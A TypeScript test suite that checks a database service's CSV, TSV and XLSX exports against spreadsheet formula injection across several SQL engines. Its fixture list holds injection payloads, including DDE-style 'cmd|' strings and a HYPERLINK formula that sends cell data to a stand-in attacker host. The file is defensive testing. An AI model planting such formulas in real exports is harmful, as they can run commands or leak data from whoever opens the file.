/** Exports opened in a spreadsheet: no cell of the database becomes a formula, and raw exports lose nothing. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Service, startService } from '../http/service.ts';
import { createDatabase, type Engine, engines, type TestDatabase } from '../support/servers.ts';

/** The characters that make common spreadsheets evaluate a cell. */
const triggers = ['=', '+', '-', '@', '\t', '\r', '\n'];

const cells = [
  ...triggers.map((trigger) => `${trigger}cmd|'/c calc'!A1`),
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '-2+3+cmd|x!A0',
  '+1-555-0100',
  'plain',
  'with, comma',
  'with "quotes"',
  'two\r\nlines',
  "'=already safe",
  '',
  ' =after a space',
  'a=b',
  '表,"é"',
];

const literal: Record<Engine, (text: string) => string> = {
  sqlite: (text) => `'${text.replaceAll("'", "''")}'`,
  postgres: (text) => `'${text.replaceAll("'", "''")}'`,
  duckdb: (text) => `'${text.replaceAll("'", "''")}'`,
  mysql: (text) => `'${text.replaceAll('\\', '\\\\').replaceAll("'", "''")}'`,
};

/** A strict RFC 4180 parser. */
function readSeparated(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    let field = '';
    if (text[at] === '"') {
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        if (at >= text.length) throw new Error('a quoted field does not end');
        field += text[at];
        if (text[at] === '"') at++;
      }
      at++;
    } else {
      while (at < text.length && text[at] !== separator && text[at] !== '\r') field += text[at++];
    }
    row.push(field);
    if (text[at] === separator) at++;
    else if (text.startsWith('\r\n', at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`neither a separator nor the end of a line at ${at}`);
  }
  return rows;
}

describe.each(engines)('on %s', (engine) => {
  let database: TestDatabase;
  let service: Service;
  beforeAll(async () => {
    database = await createDatabase(engine);
    const rows = cells.map((cell, i) => `(${i}, ${literal[engine](cell)}, ${-i})`);
    await database.run(`CREATE TABLE cell (id integer PRIMARY KEY, content varchar(100), amount integer);
      INSERT INTO cell VALUES ${rows.join(', ')};`);
    service = await startService(database.url);
  });
  afterAll(async () => {
    await service?.close();
    await database?.drop();
  });

  const attributes = [{ id: 'content', alias: '=name' }, { id: 'amount' }];
  const request = { entities: [{ id: 'cell', attributes }], order: [] };
  const download = async (parameters: string) => {
    const response = await service.post(`/api/database/uni-grid-request/export?${parameters}`, request);
    expect(response.status).toBe(200);
    return response.text();
  };

  describe.each([
    ['csv', ','],
    ['tsv', '\t'],
  ])('%s', (format, separator) => {
    test('in the safe mode has no cell or heading that begins with a trigger', async ({ annotate }) => {
      const [heading = [], ...rows] = readSeparated(await download(`format=${format}&safe=1`), separator);
      expect(heading).toEqual(["'=name", 'amount']);
      const contents = rows.map(([content = '']) => content);
      expect(contents).toHaveLength(cells.length);
      expect(contents.filter((content) => triggers.some((trigger) => content.startsWith(trigger)))).toEqual(
        [],
      );
      for (const [i, cell] of cells.entries()) {
        expect([cell, `'${cell}`]).toContain(contents[i]);
        expect(rows[i]?.[1]).toBe(String(-i));
      }
      await annotate(`${engine}, ${format}: ${triggers.length} triggers, 0 formulas`, 'A16');
    });

    test('in the raw mode keeps every character', async ({ annotate }) => {
      const [heading, ...rows] = readSeparated(await download(`format=${format}`), separator);
      expect(heading).toEqual(['=name', 'amount']);
      expect(rows).toEqual(cells.map((cell, i) => [cell, String(-i)]));
      await annotate(
        `${engine}, ${format}: ${cells.length} of ${cells.length} cells exact in the raw mode`,
        'A16',
      );
    });
  });

  test('a workbook stores texts as texts', async () => {
    const response = await service.post('/api/database/uni-grid-request/export?format=xlsx', request);
    const workbook = Buffer.from(await response.arrayBuffer());
    expect(workbook.subarray(0, 2).toString()).toBe('PK');
    expect(await sheetOf(workbook)).not.toMatch(/<f[ >]/);
  });
});

/** The first sheet, unzipped by hand: entries of a ZIP file are raw deflate streams. */
async function sheetOf(workbook: Buffer): Promise<string> {
  const { inflateRawSync } = await import('node:zlib');
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  const header = workbook.lastIndexOf(Buffer.from('504b0304', 'hex'), workbook.indexOf(name));
  const nameLength = workbook.readUInt16LE(header + 26);
  const extraLength = workbook.readUInt16LE(header + 28);
  return inflateRawSync(workbook.subarray(header + 30 + nameLength + extraLength), {
    finishFlush: 2,
  }).toString();
}
